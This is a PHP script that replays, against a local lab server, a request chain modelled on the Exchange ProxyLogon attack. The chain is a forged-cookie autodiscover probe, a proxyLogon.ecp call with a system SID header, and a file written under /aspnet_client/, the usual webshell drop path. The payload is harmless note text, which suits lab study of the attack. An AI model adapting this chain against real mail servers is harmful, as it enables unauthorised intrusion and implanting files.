<?php
// PHP port of the lab request chain (ext/curl); talks to the local toy server only.
const USER_AGENT = 'Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36';
const NOTE_PATH = '/aspnet_client/system_web/readme_91453.txt';

$base = 'http://127.0.0.1:' . ($argv[1] ?? '8080');
$browser = [
    'User-Agent: ' . USER_AGENT,
    'x-requested-with: XMLHttpRequest',
    'Accept: */*',
    'accept-language: en-US,en;q=0.9',
    'connection: close',
];

function send(string $url, array $headers, ?string $body = null): array {
    $ch = curl_init($url);
    curl_setopt_array($ch, [CURLOPT_RETURNTRANSFER => true, CURLOPT_TIMEOUT => 10, CURLOPT_HTTPHEADER => $headers]);
    if ($body !== null) {
        curl_setopt($ch, CURLOPT_POSTFIELDS, $body);
    }
    $answer = (string) curl_exec($ch);
    $status = curl_getinfo($ch, CURLINFO_RESPONSE_CODE);
    curl_close($ch);
    return [$status, $answer];
}

$query = http_build_query([
    'Pad' => str_repeat('A', 37),
    'Protocol' => 'Autodiscoverv1',
    'Email' => 'administrator@lab.invalid/mapi/nspi',
    'RequestId' => '20200302-7720',
]);
$probe = array_merge($browser, ['cookie: X-AnonResource=true; X-AnonResource-Backend=lab.invalid; X-BEResource=localhost@lab.invalid/ews/exchange.asmx?a%3D~1843073522']);
[$status] = send("$base/autodiscover/autodiscover.json?$query", $probe);
if ($status >= 500) {
    exit(1);
}

[, $who] = send("$base/ecp/proxyLogon.ecp", [
    'user-agent: ' . USER_AGENT,
    'msexchlogonmailbox: S-1-5-20',
    'content-type: application/json',
    'X-BEResource: localhost@lab.invalid/ecp/proxyLogon.ecp',
], '{"mailbox": "administrator@lab.invalid", "requestKind": "identity", "seq": 1}');
$who = trim($who) !== '' ? trim($who) : 'anonymous';

$text = implode("\n", array_map(fn ($i) => "note $i of 3 for $who", [1, 2, 3]));
send($base . NOTE_PATH, ['user-agent: ' . USER_AGENT, 'X-Note-Path: ' . NOTE_PATH, 'Content-Type: text/plain'], $text);
[, $back] = send($base . NOTE_PATH, $browser);
echo strlen($back), "\n";
